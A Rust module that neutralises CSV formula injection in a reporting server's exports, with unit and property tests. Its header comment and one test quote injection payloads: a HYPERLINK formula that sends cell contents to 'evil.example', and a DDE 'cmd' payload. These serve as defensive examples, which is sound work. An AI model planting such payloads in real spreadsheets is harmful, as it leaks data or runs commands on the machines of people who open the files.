//! The one CSV writer every export uses (company reports, the job-fair report, TKA statistics, and any
//! later one): a cell that a spreadsheet would run as a formula is written as text.
//!
//! Exports carry text typed by others (a company's name, a vacancy title, a booth's company): opened in
//! Excel or LibreOffice, `=HYPERLINK("http://evil.example?"&A2,"Klik")` or `@SUM(1+1)*cmd|' /C calc'!A0`
//! would run. As OWASP advises, a cell starting with `=`, `+`, `-`, `@`, TAB or CR (or their full-width
//! forms, which some spreadsheets read alike) gets a leading `'`, which spreadsheets show as text and
//! hide. The exports had no byte-order mark, and still have none.
use std::borrow::Cow;

/// What starts a formula in one spreadsheet or another.
const FORMULA_STARTS: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// A cell as written: text a spreadsheet would read as a formula gets a `'` in front.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `csv::Writer` into memory, every cell through [`neutralise`]. The methods keep `csv::Writer`'s names
/// and error type, so an export switches by changing its constructor.
pub struct CsvExport {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for CsvExport {
    fn default() -> Self {
        CsvExport::new()
    }
}

impl CsvExport {
    pub fn new() -> CsvExport {
        CsvExport {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }

    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.inner.write_record(
            record
                .into_iter()
                .map(|cell| neutralise(cell.as_ref()).into_owned()),
        )
    }

    /// The finished file.
    pub fn into_inner(self) -> csv::Result<Vec<u8>> {
        self.inner
            .into_inner()
            .map_err(|error| csv::Error::from(error.into_error()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn cells_of(bytes: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(bytes)
            .records()
            .map(|record| {
                record
                    .expect("a record we wrote")
                    .iter()
                    .map(str::to_owned)
                    .collect()
            })
            .collect()
    }

    #[test]
    fn formulas_become_text_and_plain_cells_stay() {
        let mut out = CsvExport::new();
        out.write_record([
            "=HYPERLINK(\"http://evil.example\",\"Klik\")",
            "+62 812",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "＝1+1",
            "PT Maju Jaya",
            "5300000",
            "",
        ])
        .expect("write");
        let cells = cells_of(&out.into_inner().expect("finish"));
        assert_eq!(
            cells,
            vec![vec![
                "'=HYPERLINK(\"http://evil.example\",\"Klik\")",
                "'+62 812",
                "'-1",
                "'@SUM(A1)",
                "'\tx",
                "'\rx",
                "'＝1+1",
                "PT Maju Jaya",
                "5300000",
                "",
            ]]
        );
    }

    /// Every export goes through this writer: no other `csv::Writer` in the server's sources.
    #[test]
    fn no_export_writes_csv_around_this_helper() {
        fn visit(dir: &std::path::Path, found: &mut Vec<String>) {
            for entry in std::fs::read_dir(dir).expect("read src").flatten() {
                let path = entry.path();
                if path.is_dir() {
                    visit(&path, found);
                } else if path.extension().is_some_and(|e| e == "rs")
                    && !path.ends_with("server/csv_export.rs")
                {
                    let text = std::fs::read_to_string(&path).expect("read source");
                    if text.contains("csv::Writer") || text.contains("csv::WriterBuilder") {
                        found.push(path.display().to_string());
                    }
                }
            }
        }
        let mut found = Vec::new();
        visit(
            &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src"),
            &mut found,
        );
        assert_eq!(found, Vec::<String>::new(), "use server::csv_export");
    }

    proptest! {
        #[test]
        fn no_cell_begins_with_a_formula_character(
            // Every row of a file is as wide as the others (as in the exports).
            rows in (1usize..6).prop_flat_map(|width| {
                prop::collection::vec(prop::collection::vec(any::<String>(), width), 1..6)
            }),
            starts in prop::collection::vec(prop::sample::select(FORMULA_STARTS.to_vec()), 1..6),
        ) {
            let mut out = CsvExport::new();
            for (i, row) in rows.iter().enumerate() {
                // Half the cells start with a formula character for sure.
                let row: Vec<String> = row
                    .iter()
                    .enumerate()
                    .map(|(j, cell)| if (i + j) % 2 == 0 { format!("{}{cell}", starts[j % starts.len()]) } else { cell.clone() })
                    .collect();
                out.write_record(&row).expect("write");
            }
            let bytes = out.into_inner().expect("finish");
            let cells = cells_of(&bytes);
            prop_assert_eq!(cells.len(), rows.len());
            for (written, given) in cells.iter().zip(&rows) {
                prop_assert_eq!(written.len(), given.len());
                for cell in written {
                    prop_assert!(!cell.starts_with(FORMULA_STARTS), "{:?}", cell);
                }
            }
        }
    }
}
